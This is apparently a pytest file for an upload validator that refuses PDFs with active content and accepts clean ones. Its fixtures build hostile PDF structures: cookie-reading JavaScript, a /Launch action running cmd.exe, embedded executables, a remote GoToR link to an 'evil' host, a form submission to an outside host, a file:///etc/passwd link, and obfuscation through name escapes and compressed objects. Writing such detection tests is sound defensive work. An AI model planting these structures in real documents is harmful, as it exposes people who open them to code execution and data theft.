"""PDFs that could run something when opened are refused with the way out (print it to PDF again); others pass."""

from __future__ import annotations

import io

import pytest
from pypdf import PdfWriter
from pypdf.actions import JavaScript

from evidence.pdf import check_pdf
from evidence.sniff import UploadRefused
from tests.evidence import generated as g

JS = b"<< /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>"
EMBEDDED = b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"
FILESPEC = b"<< /Type /Filespec /F (run.exe) /EF << /F 5 0 R >> >>"


def written(build) -> bytes:
    """A PDF written by pypdf (a real producer's structure), with `build(writer)` applied."""
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


ACTIVE = {
    # /OpenAction: a script, directly, by reference, hidden with #xx escapes, or chained after a harmless action.
    "open-action-javascript": (g.pdf(catalog=b"/OpenAction " + JS), "a script (JavaScript)"),
    "open-action-javascript-by-reference": (g.pdf(catalog=b"/OpenAction 4 0 R", extra=(JS,)), "a script"),
    "open-action-escaped-names": (g.pdf(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (x) >>"), "a script"),
    "open-action-next-chain": (
        g.pdf(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>", extra=(JS,)), "a script"),
    "open-action-launch": (
        g.pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"),
        "opens a program"),
    "open-action-uri": (g.pdf(catalog=b"/OpenAction << /S /URI /URI (https://example.org/track) >>"),
                        "start by themselves"),
    # /AA: triggers on the document, a page, a form field.
    "document-aa": (g.pdf(catalog=b"/AA << /WC 4 0 R >>", extra=(JS,)), "start by themselves"),
    "page-aa": (g.pdf(page=b"/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>"), "start by themselves"),
    "field-aa": (
        g.pdf(catalog=b"/AcroForm << /Fields [4 0 R] >>",
              extra=(b"<< /FT /Tx /T (name) /AA << /K << /S /GoTo /D [3 0 R /Fit] >> >> >>",)),
        "start by themselves"),
    # The document's JavaScript name tree, as Acrobat and pypdf write it.
    "javascript-name-tree": (g.pdf(catalog=b"/Names << /JavaScript << /Names [(init) 4 0 R] >> >>", extra=(JS,)),
                             "a script"),
    "javascript-by-pypdf": (written(lambda w: w.add_open_action(JavaScript("app.alert('hi');"))), "a script"),
    # Attached files: the name tree, a file attachment annotation, an embedded file stream on its own.
    "embedded-files-name-tree": (
        g.pdf(catalog=b"/Names << /EmbeddedFiles << /Names [(run.exe) 4 0 R] >> >>", extra=(FILESPEC, EMBEDDED)),
        "files attached"),
    "embedded-file-by-pypdf": (written(lambda w: w.add_attachment("run.bat", b"calc")), "files attached"),
    "file-attachment-annotation": (
        g.pdf(page=b"/Annots [4 0 R]",
              extra=(b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS (a.exe) >>",)),
        "files attached"),
    "embedded-file-stream": (g.pdf(extra=(EMBEDDED,)), "files attached"),
    "goto-embedded": (g.pdf(catalog=b"/OpenAction << /S /GoToE /T << /R /C /N (x) >> >>"), "files attached"),
    # Links that launch, open other files, submit data, or run script through the address.
    "link-launch": (
        g.pdf(page=b"/Annots [4 0 R]",
              extra=(b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Launch /F (x.exe) >> >>",)),
        "opens a program"),
    "link-goto-remote": (
        g.pdf(page=b"/Annots [4 0 R]",
              extra=(b"<< /Subtype /Link /Rect [0 0 10 10] /A << /S /GoToR /F (//evil/x.pdf) /D [0 /Fit] >> >>",)),
        "opens a program"),
    "submit-form": (g.pdf(page=b"/Annots [4 0 R]", extra=(
        b"<< /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://x.example) >> >>",)),
        "opens a program"),
    "link-javascript-uri": (
        g.pdf(page=b"/Annots [4 0 R]",
              extra=(b"<< /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (java\\tscript:alert\\(1\\)) >> >>",)),
        "opens a program"),
    "link-file-uri": (
        g.pdf(page=b"/Annots [4 0 R]",
              extra=(b"<< /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (file:///etc/passwd) >> >>",)),
        "opens a program"),
    # Media, 3D and XFA forms.
    "rich-media": (
        g.pdf(page=b"/Annots [4 0 R]",
              extra=(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << >> >>",)),
        "embedded media"),
    "three-d": (g.pdf(page=b"/Annots [4 0 R]", extra=(b"<< /Subtype /3D /Rect [0 0 10 10] >>",)), "embedded media"),
    "xfa-form": (
        g.pdf(catalog=b"/AcroForm << /Fields [] /XFA 4 0 R >>", extra=(b"<< /Length 0 >>\nstream\n\nendstream",)),
        "an XFA form"),
    # Inside a compressed object stream: no byte of the file spells these names.
    "compressed-open-action": (g.pdf_compressed(catalog=b"/OpenAction 4 0 R", extra=(JS,)), "a script"),
    "compressed-aa": (g.pdf_compressed(catalog=b"/AA << /WC 4 0 R >>", extra=(JS,)), "start by themselves"),
    "compressed-launch": (g.pdf_compressed(catalog=b"/OpenAction << /S /Launch /F (x.exe) >>"), "opens a program"),
    "compressed-embedded-files": (
        g.pdf_compressed(catalog=b"/Names << /EmbeddedFiles << /Names [(x) 4 0 R] >> >>",
                         extra=(b"<< /Type /Filespec /F (x) >>",)),
        "files attached"),
}


@pytest.mark.parametrize(("content", "what"), ACTIVE.values(), ids=ACTIVE.keys())
def test_pdf_with_active_content_is_refused_with_the_way_out(content: bytes, what: str) -> None:
    with pytest.raises(UploadRefused) as refused:
        check_pdf(io.BytesIO(content), filename="report.pdf")
    assert refused.value.filename == "report.pdf"
    assert what in refused.value.reason
    assert "Print it to PDF again" in refused.value.reason


def test_compressed_active_content_is_invisible_to_a_byte_search() -> None:
    content = g.pdf_compressed(catalog=b"/OpenAction 4 0 R", extra=(JS,))
    assert b"JavaScript" not in content and b"OpenAction" not in content
    with pytest.raises(UploadRefused, match="a script"):
        check_pdf(io.BytesIO(content), filename="report.pdf")


def test_encrypted_pdf_is_read_with_the_empty_password_and_checked() -> None:
    def build(writer: PdfWriter) -> None:
        writer.add_open_action(JavaScript("app.alert('hi');"))
        writer.encrypt(user_password="", owner_password="owner", algorithm="AES-256")

    with pytest.raises(UploadRefused, match="a script"):
        check_pdf(io.BytesIO(written(build)), filename="report.pdf")


def test_password_protected_pdf_is_refused() -> None:
    content = written(lambda w: w.encrypt(user_password="secret", algorithm="AES-256"))
    with pytest.raises(UploadRefused, match="protected with a password.*Print it to PDF again"):
        check_pdf(io.BytesIO(content), filename="report.pdf")


@pytest.mark.parametrize("content", [b"%PDF-1.4\nnot a pdf at all\n", g.pdf()[:60]], ids=["garbage", "cut-short"])
def test_pdf_that_cannot_be_read_is_refused(content: bytes) -> None:
    with pytest.raises(UploadRefused, match="damaged .*Print it to PDF again"):
        check_pdf(io.BytesIO(content), filename="report.pdf")


CLEAN = {
    "minimal": g.pdf(),
    "compressed": g.pdf_compressed(),
    "open-at-a-page": g.pdf(catalog=b"/OpenAction [3 0 R /FitH 200]"),
    "open-with-goto": g.pdf(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
    "web-and-mail-links": g.pdf(page=b"/Annots [4 0 R 5 0 R]", extra=(
        b"<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.org/policy) >> >>",
        b"<< /Subtype /Link /Rect [9 9 19 19] /A << /S /URI /URI (mailto:assessor@example.org) >> >>",
    )),
    "pypdf-with-metadata": written(lambda w: w.add_metadata({"/Title": "Site visit", "/Author": "Cara"})),
    "encrypted-no-password": written(lambda w: w.encrypt(user_password="", owner_password="owner")),
}


@pytest.mark.parametrize("content", CLEAN.values(), ids=CLEAN.keys())
def test_pdf_without_active_content_is_accepted(content: bytes) -> None:
    stream = io.BytesIO(content)
    check_pdf(stream, filename="report.pdf")
    assert stream.tell() == 0


def test_pdf_from_a_real_producer_with_links_and_bookmarks_is_accepted() -> None:
    weasyprint = pytest.importorskip("weasyprint")
    html = (
        "<h1 id='a'>Reflective account</h1><p>See <a href='https://example.org'>the policy</a> "
        "and <a href='#a'>the top</a>.</p><img src='data:image/png;base64,"
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='>"
    )
    check_pdf(io.BytesIO(weasyprint.HTML(string=html).write_pdf()), filename="account.pdf")
